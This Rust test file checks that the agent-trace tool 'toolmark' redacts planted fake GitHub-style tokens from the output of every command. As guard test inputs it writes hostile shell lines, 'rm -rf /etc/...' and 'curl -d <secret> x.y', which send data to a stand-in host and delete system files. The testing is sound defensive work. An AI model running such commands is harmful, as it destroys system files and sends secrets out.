//! Tests that no command prints a secret, wherever it was planted: in any text of a trace, of a
//! spec, of a label, or in the name of a file. `convert` and `--dump-traces` write traces
//! unredacted.
//!
//! All secrets are planted at once and every location has its own secret, so that a leak identifies
//! its source. The output with `--no-redact` proves that the search would find them.

use crate::{root, toolmark};
use serde_json::{Map, Value, json};
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

/// Keys whose values readers depend on: with another value, the file is no longer a trace.
const STRUCTURE: &[&str] = &[
    "type",
    "role",
    "timestamp",
    "subtype",
    "schema_version",
    "source",
    "stop_reason",
    "status",
    "userType",
];

/// Keys of tool names, which rules and graders depend on.
const TOOLS: &[&str] = &["name", "function_name"];

/// Number of consecutive characters of a secret that count as a leak.
const LEAK: usize = 12;

/// The secrets by the text that they were planted in. The same text has the same secret, so that
/// IDs still match.
#[derive(Default)]
struct Garden {
    secrets: RefCell<BTreeMap<String, String>>,
}

impl Garden {
    /// Returns the secret of a location.
    fn secret(&self, place: &str) -> String {
        let mut secrets = self.secrets.borrow_mut();
        let drawn = || {
            let mut state = place.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
                (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
            });
            let mut draw = || {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                char::from(
                    b"abcdefghjkmnpqrstuvwxyz23456789ABCDEFGHJKM"[(state >> 40) as usize % 42],
                )
            };
            let tail: String = (0..35).map(|_| draw()).collect();
            format!("ghp_{tail}7")
        };
        secrets.entry(place.to_owned()).or_insert_with(drawn).clone()
    }

    fn plant(&self, value: &mut Value, key: &str, names: bool) {
        match value {
            Value::String(text) => {
                let is_name = TOOLS.contains(&key) && !names;
                if text.is_empty() || STRUCTURE.contains(&key) || is_name {
                    return;
                }
                // Arguments may be JSON in a text.
                if let Ok(mut inner @ Value::Object(_)) = serde_json::from_str::<Value>(text) {
                    self.plant(&mut inner, "arguments", names);
                    *text = inner.to_string();
                } else {
                    *text = format!("{text} {}", self.secret(text));
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|item| self.plant(item, key, names)),
            Value::Object(map) => {
                map.iter_mut().for_each(|(key, value)| self.plant(value, key, names));
                if matches!(key, "input" | "arguments") {
                    map.insert(self.secret("the name of an argument"), json!(1));
                }
            }
            _ => {}
        }
    }

    /// Returns a trace with a secret in every text.
    fn trace(&self, sample: &str, names: bool) -> String {
        let text = fs::read_to_string(root().join(sample)).unwrap();
        let plant = |text: &str| {
            let mut value: Value = serde_json::from_str(text).unwrap();
            self.plant(&mut value, "", names);
            value.to_string()
        };
        match sample.ends_with("jsonl") {
            true => text.lines().map(|line| plant(line) + "\n").collect(),
            false => plant(&text),
        }
    }

    /// Returns the source of a leaked secret in a text, if any.
    fn leak(&self, text: &str) -> Option<String> {
        let plain: Vec<u8> = text.bytes().filter(u8::is_ascii_alphanumeric).collect();
        let secrets = self.secrets.borrow();
        let mut known: BTreeMap<&[u8], &str> = BTreeMap::new();
        for (place, secret) in &*secrets {
            let tail = &secret.as_bytes()["ghp_".len()..];
            known.extend(tail.windows(LEAK).map(|part| (part, place.as_str())));
        }
        let found = plain.windows(LEAK).find_map(|part| known.get(part))?;
        Some((*found).to_owned())
    }
}

/// A directory with planted secrets.
struct Planted {
    dir: tempfile::TempDir,
    garden: Garden,
}

impl Planted {
    fn new() -> Self {
        let (dir, garden) = (tempfile::tempdir().unwrap(), Garden::default());
        let secret = |place: &str| garden.secret(place);
        let write = |path: PathBuf, text: &str| {
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        let runs = dir.path().join("runs").join(secret("the name of a directory"));
        for (at, sample) in SAMPLES.iter().enumerate() {
            let extension = sample.rsplit('.').next().unwrap();
            for names in [false, true] {
                let name = format!("{}.{extension}", secret(&format!("file name {at} {names}")));
                write(runs.join(name), &garden.trace(sample, names));
            }
        }
        let broken = format!("{{\"type\":\"user\",\"x\":\"{}\n", secret("a line that is no JSON"));
        let whole = garden.trace(SAMPLES[0], false);
        write(dir.path().join("broken.jsonl"), &format!("{whole}{broken}"));
        let session = dir.path().join(".claude/projects").join(secret("a project"));
        write(session.join(format!("{}.jsonl", secret("a session"))), &whole);

        write(dir.path().join("spec.yaml"), &spec(&secret));
        let wrong = format!(
            "name: {}\n{}: 1\ngraders: [{{type: {}}}, {{type: output-matches, config: {{pattern: '({}'}}}}]\n",
            secret("spec: name"),
            secret("spec: a key"),
            secret("spec: type of a grader"),
            secret("spec: a pattern"),
        );
        write(dir.path().join("wrong.yaml"), &wrong);
        let id = "51ea40b0-7088-4482-8231-74d06cde3e3a";
        let gold = [
            json!({"id": format!("{id} {}", secret(id)), "tool": "Bash"}),
            json!({"id": secret("gold: id"), "tool": secret("gold: tool")}),
        ];
        let gold: String = gold.iter().map(|row| format!("{row}\n")).collect();
        write(dir.path().join("gold.jsonl"), &gold);
        for (name, verdict) in [("before.json", "pass"), ("after.json", "fail")] {
            write(dir.path().join(name), &report(verdict, &secret).to_string());
        }
        let line = json!({"type": secret("report: type of a line")});
        write(dir.path().join("no-report.jsonl"), &line.to_string());
        let mut row = Map::new();
        row.insert("command".into(), json!(format!("rm -rf /etc/{}", secret("a command"))));
        row.insert(secret("a key of a row"), json!(secret("a value of a row")));
        write(dir.path().join("calls.jsonl"), &format!("{}\n{broken}", Value::Object(row)));
        Self { dir, garden }
    }

    fn path(&self, name: &str) -> String {
        self.dir.path().join(name).to_str().unwrap().to_owned()
    }

    /// The traces.
    fn traces(&self) -> Vec<PathBuf> {
        let runs = fs::read_dir(self.dir.path().join("runs")).unwrap().next().unwrap().unwrap();
        let mut files: Vec<PathBuf> =
            fs::read_dir(runs.path()).unwrap().map(|entry| entry.unwrap().path()).collect();
        files.sort();
        files
    }

    /// Returns all output and written files of a command.
    fn run(&self, args: &[String]) -> String {
        let out = self.dir.path().join("out");
        let _ = fs::remove_dir_all(&out);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let output = toolmark(&args).env("HOME", self.dir.path()).output().unwrap();
        let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&output.stderr));
        for file in fs::read_dir(&out).into_iter().flatten() {
            text.push_str(&fs::read_to_string(file.unwrap().path()).unwrap());
        }
        text
    }
}

const SAMPLES: [&str; 4] = [
    "crates/toolmark/tests/fixtures/faults.jsonl",
    "samples/claude-code/disk-full.jsonl",
    "samples/codex/rollout-2026-03-15T18-03-27-019cf2b1-6c1e-7a40-9b52-3f0d8e7a4c15.jsonl",
    "samples/atif/mean-depth.trajectory.json",
];

/// A spec whose graders fail, each in another way, and a program that prints a secret.
fn spec(secret: &dyn Fn(&str) -> String) -> String {
    let said = json!({
        "passed": false,
        "evidence": secret("program: evidence"),
        "metadata": {secret("program: a key"): secret("program: a value")},
        "details": [{"name": secret("program: a part"), "passed": false, "evidence": "x"}],
    });
    format!(
        "name: {}\nexpect:\n  sequence: [{{tool: Bash, args: {{command: {}}}}}, {{tool: {}}}]\n\
         graders:\n  - {{type: tool-call-count, name: '{}', config: {{max: 0}}}}\n  \
         - {{type: output-contains, config: {{value: '{}'}}}}\n  \
         - {{type: run-command, config: {{command: 'echo {}; exit 1'}}}}\n  \
         - {{type: program, config: {{program: sh, args: ['-c', 'echo ''{said}''']}}}}\n",
        secret("spec: name"),
        secret("spec: an argument"),
        secret("spec: a tool"),
        secret("spec: name of a grader"),
        secret("spec: a value"),
        secret("spec: a command"),
    )
}

/// A report with everything that a comparison prints.
fn report(verdict: &str, secret: &dyn Fn(&str) -> String) -> Value {
    let outcome = |case: &str| {
        json!({
            "type": "outcome", "case": secret(case), "target": secret("report: target"),
            "verdict": verdict, "score": null, "reason": secret("report: reason"),
            "graders": [{"name": secret("report: grader"), "verdict": verdict}],
        })
    };
    let of = |what: &str| secret(&format!("report: {what} {verdict}"));
    json!({
        "toolmark": "0.1.0",
        "outcomes": [outcome("report: case"), outcome(&format!("report: case {verdict}"))],
        "check": {
            "findings": [{
                "code": of("code"), "name": of("name"), "severity": "error", "tool": of("tool"),
                "message": of("message"), "place": {"file": of("file"), "line": 1},
                "fingerprint": verdict,
            }],
            "gates": [{"gate": secret("report: gate"), "tool": secret("report: tool"), "verdict": verdict}],
            "trajectories": [{"id": of("session"), "cells": []}],
            "sessions": [{"id": of("session"), "file": of("file")}],
        },
    })
}

/// Every command that prints parts of a trace, a spec or a policy.
fn commands(planted: &Planted) -> Vec<Vec<String>> {
    let mut all: Vec<Vec<String>> = Vec::new();
    let mut add = |words: &str, more: &[&str]| {
        let words = words.split(' ').map(str::to_owned);
        all.push(words.chain(more.iter().map(|word| (*word).to_owned())).collect());
    };
    let path = |name: &str| planted.path(name);
    let (runs, out, spec, wrong) =
        (path("runs"), path("out"), path("spec.yaml"), path("wrong.yaml"));
    let broken = path("broken.jsonl");
    for trace in planted.traces() {
        let trace = trace.to_str().unwrap();
        for view in ["", " --full", " --calls", " --step 1", " --format json"] {
            add(&format!("show{view}"), &[trace]);
        }
    }
    add("show -v", &[&broken]);
    add("show", &[]);
    add("show --run", &[&planted.garden.secret("a run"), &broken]);
    for format in ["table", "json", "jsonl", "csv"] {
        add(&format!("stats -v --format {format}"), &[&runs, &broken]);
    }
    for format in ["text", "json", "jsonl", "junit", "sarif", "markdown", "html"] {
        let gate = format!("--gate=recovery[{}] >= 0.8", planted.garden.secret("a gate"));
        add(&format!("check -v --min-confidence low --format {format}"), &[&runs, &gate]);
    }
    for format in ["text", "json", "jsonl", "csv", "markdown", "html"] {
        add(&format!("feed -v --format {format}"), &[&runs]);
    }
    add("check -q", &[&runs]);
    add("check --gold", &[&path("gold.jsonl"), &runs]);
    add("check --promote", &[&out, &runs]);
    add("check", &[]);
    for format in ["text", "json", "jsonl", "junit", "sarif", "markdown", "html", "vally", "agentv"]
    {
        add(&format!("grade -v --include-trace --format {format}"), &[&spec, &runs]);
    }
    let (before, after) = (path("before.json"), path("after.json"));
    for format in ["text -v", "json", "markdown", "html"] {
        add(&format!("compare --by grader --format {format}"), &[&before, &after]);
    }
    add("compare", &[&path("no-report.jsonl"), &after]);
    add("grade --baseline", &[&before, &spec, &runs]);
    add("grade", &[&wrong, &runs]);
    add("lint --vacuity", &[&spec, &wrong, "--traces", &runs]);
    add("guard replay", &[&runs]);
    add("guard replay --format json", &[&runs]);
    add("guard replay --format jsonl", &[&runs]);
    let command = format!("curl -d {0} x.y; rm -rf /etc/{0}", planted.garden.secret("a call"));
    for format in ["text -v", "json", "jsonl"] {
        add(&format!("guard test --format {format}"), &[&command]);
        add(&format!("guard test --format {format} --batch"), &[&path("calls.jsonl")]);
    }
    add("graders", &[&planted.garden.secret("a grader")]);
    add("rules", &[&planted.garden.secret("a rule")]);
    add("check --explain", &[&planted.garden.secret("a rule")]);
    all
}

#[test]
fn no_command_shows_a_secret() {
    let planted = Planted::new();
    // Which views have had something to hide; not every file fills every view.
    let mut views: BTreeMap<String, bool> = BTreeMap::new();
    for command in commands(&planted) {
        let shown = planted.run(&command);
        if let Some(place) = planted.garden.leak(&shown) {
            panic!("toolmark {} shows the secret of: {place}\n{shown}", command.join(" "));
        }
        // The same secrets would be found if they were there.
        let bare = planted.run(&[&command[..], &["--no-redact".to_owned()]].concat());
        let view = command.iter().filter(|word| planted.garden.leak(word).is_none());
        let view: Vec<&str> = view.map(String::as_str).collect();
        *views.entry(view.join(" ")).or_default() |= planted.garden.leak(&bare).is_some();
    }
    let quiet: Vec<&String> =
        views.iter().filter(|(_, seen)| !**seen).map(|(view, _)| view).collect();
    assert_eq!(quiet, [""; 0], "these say nothing that could have been secret");
}

/// `convert` changes the form of data, not the data; dumped traces are also unredacted.
#[test]
fn traces_are_written_as_they_are() {
    let planted = Planted::new();
    let (trace, out) = (planted.traces().remove(0), planted.path("out"));
    let trace = trace.to_str().unwrap().to_owned();
    let convert = ["convert", "--to", "toolmark", &trace].map(str::to_owned);
    assert!(planted.garden.leak(&planted.run(&convert)).is_some());
    let spec = planted.path("spec.yaml");
    planted.run(&["grade", &spec, &trace, "--dump-traces", &out].map(str::to_owned));
    let dumped = fs::read_dir(Path::new(&out)).unwrap().next().unwrap().unwrap();
    assert!(planted.garden.leak(&fs::read_to_string(dumped.path()).unwrap()).is_some());
}
